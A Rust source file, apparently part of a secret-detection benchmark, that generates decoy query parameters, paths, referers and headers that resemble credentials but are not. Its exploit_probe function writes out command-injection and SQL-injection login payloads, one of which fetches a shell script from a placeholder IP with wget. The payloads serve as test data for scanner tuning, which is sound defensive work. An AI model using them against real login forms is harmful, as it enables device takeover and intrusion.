//! Values that look random but are not credentials, by family: none of them may be reported.

use crate::rng::{Rng, ALNUM, B64URL, HEX, LOWER_ALNUM};

/// The decoy families, as named in the benchmark's false-alarm table.
pub const FAMILIES: &[&str] = &[
    "click-id",
    "cache-buster",
    "request-id",
    "content-hash",
    "cursor",
    "oauth-flow",
    "jsonp",
    "search",
    "placeholder",
    "masked",
    "public-key",
    "documentation",
    "csrf",
    "csrf-framework",
    "csrf-prestashop",
    "exploit-probe",
    "replay-key",
    "number",
    "slug",
    "tracker",
    "bad-checksum-suffix",
    "image-signature",
];

const WORDS: &[&str] = &[
    "blue", "widget", "summer", "sale", "garden", "chair", "deluxe", "invoice", "order", "promo",
    "winter", "black", "friday", "shoes", "review", "banner",
];

/// An anti-CSRF token or nonce as a framework names and shapes it.
fn csrf_by_framework(rng: &mut Rng) -> String {
    match rng.below(8) {
        0 => format!("_wpnonce={}", rng.string(HEX, 10)),
        1 => format!("sesskey={}", rng.string(ALNUM, 10)),
        2 => format!("form_key={}", rng.string(ALNUM, 16)),
        3 => format!("_token={}", rng.string(ALNUM, 40)),
        4 => format!("__RequestVerificationToken={}", rng.string(B64URL, 92)),
        5 => format!("user_token={}", rng.string(HEX, 32)),
        6 => format!("{}=1", rng.string(HEX, 32)),
        _ => format!("_csrf={}", uuid(rng)),
    }
}

/// An exploit kit's login probe: a command injected into a sibling of the password (a router's
/// `username=admin';ls #`), whose password is whatever the kit sends.
fn exploit_probe(rng: &mut Rng) -> String {
    let len = 6 + rng.below(8);
    let password = rng.string(ALNUM, len);
    match rng.below(3) {
        0 => format!(
            "username={}%27%3B{}%20%23&password={password}",
            rng.pick(&["admin", "root", "support"]),
            rng.pick(&["ls", "id", "uname%20-a"])
        ),
        1 => format!(
            "user=x%3Bwget%20http%3A%2F%2F198.51.100.{}%2F{}.sh&pass={password}",
            rng.below(250),
            rng.string(LOWER_ALNUM, 4)
        ),
        _ => format!(
            "login=%27%20or%20%27%27%3D%27&pwd={password}&submit={}",
            rng.pick(&["Login", "1"])
        ),
    }
}

/// PrestaShop's anti-CSRF `token` (32 lowercase hex) with the parameters its dispatcher writes
/// beside it: a back-office or shop controller, a legacy AJAX `tab`, a Symfony `_token`, or a
/// cart link.
fn csrf_prestashop(rng: &mut Rng) -> String {
    let token = rng.string(HEX, 32);
    match rng.below(5) {
        0 => format!(
            "controller={}&token={token}",
            rng.pick(&[
                "AdminOrders",
                "AdminModules",
                "AdminProducts",
                "AdminCustomers"
            ])
        ),
        1 => format!(
            "controller={}&id_product={}&token={token}",
            rng.pick(&["cart", "product"]),
            rng.below(900)
        ),
        2 => format!(
            "token={token}&ajax=1&tab={}&id_country={}",
            rng.pick(&["AdminAddresses", "AdminStates"]),
            rng.below(250)
        ),
        3 => format!("token={token}&_token={}", rng.string(B64URL, 43)),
        _ => format!(
            "{}=1&id_product={}&id_product_attribute=0&token={token}",
            rng.pick(&["add", "update", "delete"]),
            rng.below(900)
        ),
    }
}

/// A GitHub-shaped token whose checksum is wrong (a random one is right once in 62^6), with text
/// run on after it.
fn bad_checksum_with_suffix(rng: &mut Rng) -> String {
    let prefix = rng.pick(&["ghp_", "gho_", "npm_"]);
    let suffix = rng.pick(&[":main", ":1", "/deploy", "@origin"]);
    format!(
        "token={prefix}{}{}",
        rng.string(ALNUM, 36),
        suffix.replace(':', "%3A").replace('@', "%40")
    )
}

/// A number in some notation under a credential name.
fn number(rng: &mut Rng) -> String {
    let digits = |rng: &mut Rng, n: usize| {
        let mut d = rng.string(b"123456789", 1);
        d.push_str(&rng.string(b"0123456789", n - 1));
        d
    };
    match rng.below(4) {
        0 => format!("token=-{}E17", digits(rng, 17)),
        1 => format!("token={}", digits(rng, 18)),
        2 => format!(
            "key={}.{}e%2B{}",
            digits(rng, 1),
            digits(rng, 16),
            10 + rng.below(80)
        ),
        _ => format!("access_token={}E{}", digits(rng, 19), rng.below(30)),
    }
}

/// Words and small numbers joined by `-` or `_` under a key-like name.
fn slug(rng: &mut Rng) -> String {
    let sep = *rng.pick(&["-", "_"]);
    let words: Vec<&str> = (0..2 + rng.below(3)).map(|_| *rng.pick(WORDS)).collect();
    match rng.below(3) {
        0 => format!(
            "product_key={}{sep}{}{sep}{}",
            words.join(sep),
            2020 + rng.below(7),
            rng.pick(&["xl", "m", "s", "eu"])
        ),
        1 => format!(
            "invoice_token=INV{sep}{}{sep}{:06}",
            2020 + rng.below(7),
            rng.below(999_999)
        ),
        _ => format!("api_key={}{sep}{}", words.join(sep), rng.below(100)),
    }
}

fn uuid(rng: &mut Rng) -> String {
    let h = rng.string(HEX, 32);
    format!(
        "{}-{}-4{}-a{}-{}",
        &h[..8],
        &h[8..12],
        &h[13..16],
        &h[17..20],
        &h[20..]
    )
}

/// A decoy query parameter (`name=value`, already encoded as a browser sends it) and its family.
pub fn param(rng: &mut Rng) -> (&'static str, String) {
    let family = *rng.pick(FAMILIES);
    let text = match family {
        "click-id" => match rng.below(6) {
            0 => format!("gclid=Cj0KCQiA{}_BwE", rng.string(B64URL, 70)),
            1 => format!("fbclid=IwAR{}", rng.string(B64URL, 58)),
            2 => format!("msclkid={}", rng.string(HEX, 32)),
            3 => format!(
                "yclid={}",
                1_000_000_000_000u64 + rng.next_u64() % 9_000_000_000_000
            ),
            4 => format!(
                "_ga=2.{}.{}.{}",
                rng.below(1 << 30),
                rng.below(1 << 30),
                1_795_773_000 + rng.below(600)
            ),
            _ => format!(
                "utm_source={}&utm_medium=email&utm_campaign=nov_{}&utm_content={}",
                rng.pick(&["newsletter", "google", "partner"]),
                rng.below(100),
                rng.string(LOWER_ALNUM, 12)
            ),
        },
        "cache-buster" => match rng.below(4) {
            0 => {
                let len = if rng.chance(0.5) { 8 } else { 40 };
                format!("v={}", rng.string(HEX, len))
            }
            1 => format!("_={}", 1_795_773_600_000u64 + rng.below(600_000) as u64),
            2 => format!("cb={}", rng.string(LOWER_ALNUM, 16)),
            _ => format!("ver={}.{}.{}", rng.below(9), rng.below(30), rng.below(99)),
        },
        "request-id" => match rng.below(4) {
            0 => format!("request_id={}", uuid(rng)),
            1 => format!("trace_id={}", rng.string(HEX, 32)),
            2 => format!(
                "traceparent=00-{}-{}-01",
                rng.string(HEX, 32),
                rng.string(HEX, 16)
            ),
            _ => format!("correlationId={}", uuid(rng)),
        },
        "content-hash" => match rng.below(3) {
            0 => format!("sha256={}", rng.string(HEX, 64)),
            1 => format!("commit={}", rng.string(HEX, 40)),
            _ => format!("etag=W%2F%22{}%22", rng.string(HEX, 32)),
        },
        "cursor" => {
            let name = rng.pick(&[
                "page_token",
                "next_token",
                "cursor",
                "continuation",
                "pageToken",
                "nextPageToken",
                "after",
            ]);
            format!("{name}={}", rng.string(B64URL, 48))
        }
        "oauth-flow" => match rng.below(4) {
            0 => format!("state={}", rng.string(ALNUM, 32)),
            1 => format!("nonce={}", rng.string(B64URL, 32)),
            2 => format!(
                "code={}&state={}",
                rng.string(ALNUM, 40),
                rng.string(HEX, 16)
            ),
            _ => format!(
                "code_challenge={}&code_challenge_method=S256",
                rng.string(B64URL, 43)
            ),
        },
        "jsonp" => format!(
            "callback=jQuery{}_{}",
            rng.string(b"0123456789", 20),
            1_795_773_600_000u64 + rng.below(1000) as u64
        ),
        "search" => format!(
            "q={}+{}+{}",
            rng.pick(&["running", "api", "token", "secret", "key", "blue"]),
            rng.pick(&["shoes", "reference", "santa", "garden", "access"]),
            rng.pick(&["2026", "sale", "review", "size+44"])
        ),
        "placeholder" => rng
            .pick(&[
                "api_key=YOUR_API_KEY",
                "token=%7B%7Btoken%7D%7D",
                "key=xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
                "access_token=%3CACCESS_TOKEN%3E",
                "apikey=%24%7BAPI_KEY%7D",
                "password=changeme",
                "secret=your-secret-here",
                "api_key=INSERT_KEY_HERE",
                "token=null",
                "access_token=undefined",
            ])
            .to_string(),
        "masked" => rng
            .pick(&[
                "password=%5BFILTERED%5D",
                "token=REDACTED",
                "sendkey=__HIDDEN__",
                "api_key=***",
                "password=********",
                "access_token=%5BREDACTED%5D",
                "secret=%3Credacted%3E",
                "key=XXXXXXXXXXXXXXXX",
            ])
            .to_string(),
        "public-key" => match rng.below(4) {
            0 => format!("key=pk_live_{}", rng.string(ALNUM, 24)),
            1 => format!("publishableKey=pk_test_{}", rng.string(ALNUM, 24)),
            2 => format!(
                "access_token=pk.eyJ1Ijoi{}.{}",
                rng.string(ALNUM, 40),
                rng.string(B64URL, 22)
            ),
            _ => format!("sitekey=6Ld{}", rng.string(B64URL, 37)),
        },
        "documentation" => rng
            .pick(&[
                "aws_access_key_id=AKIAIOSFODNN7EXAMPLE",
                "aws_secret_access_key=wJalrXUtnFEMI%2FK7MDENG%2FbPxRfiCYEXAMPLEKEY",
                "token=ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
                "token=ghp_16C7e42F292c6912E7710c838347Ae178B4a",
            ])
            .to_string(),
        "csrf-framework" => csrf_by_framework(rng),
        "csrf-prestashop" => csrf_prestashop(rng),
        "exploit-probe" => exploit_probe(rng),
        "replay-key" => format!("key={}{}", uuid(rng), rng.string(ALNUM, 20)),
        "number" => number(rng),
        "slug" => slug(rng),
        "tracker" => format!(
            "sid=awssession_id{}r{}",
            1_000_000_000 + rng.below(900_000_000),
            rng.below(10_000)
        ),
        "bad-checksum-suffix" => bad_checksum_with_suffix(rng),
        "csrf" => {
            let name = rng.pick(&[
                "csrf_token",
                "authenticity_token",
                "_csrf",
                "xsrf_token",
                "csrfmiddlewaretoken",
            ]);
            format!("{name}={}", rng.string(B64URL, 43))
        }
        _ => format!(
            "w={}&h={}&fit=crop&s={}",
            rng.below(2000),
            rng.below(2000),
            rng.string(HEX, 32)
        ),
    };
    (family, text)
}

/// A decoy path: hashed assets, commit ids, UUIDs and share slugs.
pub fn path(rng: &mut Rng) -> String {
    match rng.below(6) {
        0 => format!("/static/js/main.{}.chunk.js", rng.string(HEX, 8)),
        1 => format!("/repo/shop/commit/{}", rng.string(HEX, 40)),
        2 => format!("/api/v1/orders/{}", uuid(rng)),
        3 => format!("/assets/app-{}.css", rng.string(HEX, 64)),
        4 => format!("/img/products/{}.webp", rng.string(LOWER_ALNUM, 20)),
        _ => format!(
            "/blog/2026/11/{}",
            rng.pick(&["rotate-your-keys", "api-token-hygiene", "black-friday"])
        ),
    }
}

/// A decoy referer and its family: search engines with their own click ids, the site itself,
/// and admin pages whose anti-CSRF token is named like a credential.
pub fn referer(rng: &mut Rng) -> (&'static str, String) {
    match rng.below(6) {
        3 => (
            "csrf-phpmyadmin",
            format!(
                "https://db.example.com/phpmyadmin/index.php?route=/sql&db=shop&table=orders&token={}&ajax_request=true",
                rng.string(HEX, 32)
            ),
        ),
        4 if rng.chance(0.5) => (
            "csrf-drupal",
            format!(
                "https://www.example.com/update.php?op={}&token={}",
                rng.pick(&["selection", "start", "finished"]),
                rng.string(B64URL, 43)
            ),
        ),
        4 => (
            "csrf-drupal",
            format!(
                "https://www.example.com/admin/content/node/{}/delete?destination=/admin/content&token={}",
                rng.below(5000),
                rng.string(B64URL, 43)
            ),
        ),
        5 => (
            "csrf-prestashop",
            format!(
                "https://shop.example.com/admin{}/index.php?controller=AdminOrders&id_order={}&vieworder&token={}",
                rng.string(LOWER_ALNUM, 6),
                rng.below(5000),
                rng.string(HEX, 32)
            ),
        ),
        _ => ("none", search_referer(rng)),
    }
}

fn search_referer(rng: &mut Rng) -> String {
    match rng.below(3) {
        0 => format!(
            "https://www.google.com/url?sa=t&rct=j&q=&esrc=s&source=web&cd=1&ved=2ahUKEwj{}&url=https%3A%2F%2Fshop.example.com%2F&usg=AOvVaw{}&sig2={}&ei={}",
            rng.string(B64URL, 40),
            rng.string(B64URL, 22),
            rng.string(B64URL, 22),
            rng.string(B64URL, 22)
        ),
        1 => format!("https://www.bing.com/search?q=shop+{}&form=QBLH&sp=-1&pq=shop&sc=8-4&qs=n&sk=&cvid={}", rng.pick(&["shoes", "hats"]), rng.string(b"0123456789ABCDEF", 32)),
        _ => format!("https://shop.example.com/products/{}?ref=nav&sid_hint=0", rng.below(5000)),
    }
}

/// Decoy headers: request ids and analytics cookies.
pub fn headers(rng: &mut Rng) -> Vec<(String, String)> {
    let mut out = vec![("X-Request-Id".to_string(), uuid(rng))];
    if rng.chance(0.5) {
        out.push((
            "Cookie".to_string(),
            format!(
                "_ga=GA1.2.{}.{}; _gid=GA1.2.{}.{}; csrftoken={}; theme=dark",
                rng.below(1 << 30),
                1_795_000_000 + rng.below(700_000),
                rng.below(1 << 30),
                1_795_700_000 + rng.below(70_000),
                rng.string(ALNUM, 32)
            ),
        ));
    }
    out
}
